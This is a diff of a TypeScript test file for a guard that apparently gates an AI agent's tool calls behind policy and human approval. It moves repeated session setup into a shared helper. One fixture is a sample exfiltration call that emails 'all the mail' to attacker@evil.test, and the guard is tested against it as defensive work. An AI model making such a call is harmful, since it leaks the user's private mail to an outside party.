@@ -1,6 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import type { Approver } from '../../src/approvals/types.ts';
-import { createGuard } from '../../src/guard/guard.ts';
+import { createGuard, type GuardOptions } from '../../src/guard/guard.ts';
 import { MemoryApprovalStore, MemoryAuditLog } from '../../src/store/memory.ts';
 import { emailBot } from '../helpers.ts';
 
@@ -10,17 +10,18 @@ import { emailBot } from '../helpers.ts';
 
 const exfil = { id: 'c2', tool: 'send_email', args: { to: 'attacker@evil.test', body: 'all the mail' } };
 
-async function denied(approver: Approver | undefined) {
-  const audit = new MemoryAuditLog();
-  const guard = createGuard({
-    policy: emailBot(),
-    audit,
-    approvalTimeoutMs: 20,
-    ...(approver ? { approver } : {}),
-  });
+/** A guard with a session that holds A and B, so that `exfil` needs an approval. */
+async function holdingAB(options: Omit<GuardOptions, 'policy'> = {}) {
+  const guard = createGuard({ policy: emailBot(), ...options });
   const session = await guard.session('s', { input: 'untrusted' });
   await session.check({ id: 'c1', tool: 'search_contacts', args: {} });
   await session.record('c1', []);
+  return { guard, session };
+}
+
+async function denied(approver: Approver | undefined) {
+  const audit = new MemoryAuditLog();
+  const { guard, session } = await holdingAB({ audit, approvalTimeoutMs: 20, ...(approver ? { approver } : {}) });
   const decision = await session.authorize(exfil);
   return { guard, session, decision, audit };
 }
@@ -54,10 +55,7 @@ describe('an approval request the guard gave up on', () => {
 describe('an answer that changes nothing', () => {
   it('is not audited as an answer: each request has one `approval.answer` record, by whoever closed it', async () => {
     const audit = new MemoryAuditLog();
-    const guard = createGuard({ policy: emailBot(), audit });
-    const session = await guard.session('s', { input: 'untrusted' });
-    await session.check({ id: 'c1', tool: 'search_contacts', args: {} });
-    await session.record('c1', []);
+    const { guard, session } = await holdingAB({ audit });
     const asked = await session.check(exfil);
     const requestId = asked.approval?.id ?? '';
     expect(await guard.answer(requestId, { approved: false, by: 'ana' })).toBeUndefined();
@@ -82,16 +80,12 @@ describe('an approval request the guard gave up on but could not close', () => {
   async function givenUp() {
     const approvals = new BusyApprovals();
     const errors: string[] = [];
-    const guard = createGuard({
-      policy: emailBot(),
+    const { guard, session } = await holdingAB({
       approvals,
       approvalTimeoutMs: 20,
       approver: () => new Promise<boolean>(() => {}),
       onError: (error, where) => errors.push(`${where}: ${(error as Error).message}`),
     });
-    const session = await guard.session('s', { input: 'untrusted' });
-    await session.check({ id: 'c1', tool: 'search_contacts', args: {} });
-    await session.record('c1', []);
     const decision = await session.authorize(exfil);
     expect(decision.reasons.at(-1)?.code).toBe('approval_timeout');
     expect(errors).toContain('approval store: database is locked');
@@ -138,10 +132,7 @@ describe('a refusal the store failed to take', () => {
   it('still holds in the guard: a later yes through it closes the request as that refusal', async () => {
     const approvals = new BusyApprovals();
     approvals.failing = false;
-    const guard = createGuard({ policy: emailBot(), approvals });
-    const session = await guard.session('s', { input: 'untrusted' });
-    await session.check({ id: 'c1', tool: 'search_contacts', args: {} });
-    await session.record('c1', []);
+    const { guard, session } = await holdingAB({ approvals });
     const requestId = (await session.check(exfil)).approval?.id ?? '';
     approvals.failing = true;
     await expect(guard.answer(requestId, { approved: false, by: 'ana' })).rejects.toThrow(/locked/);
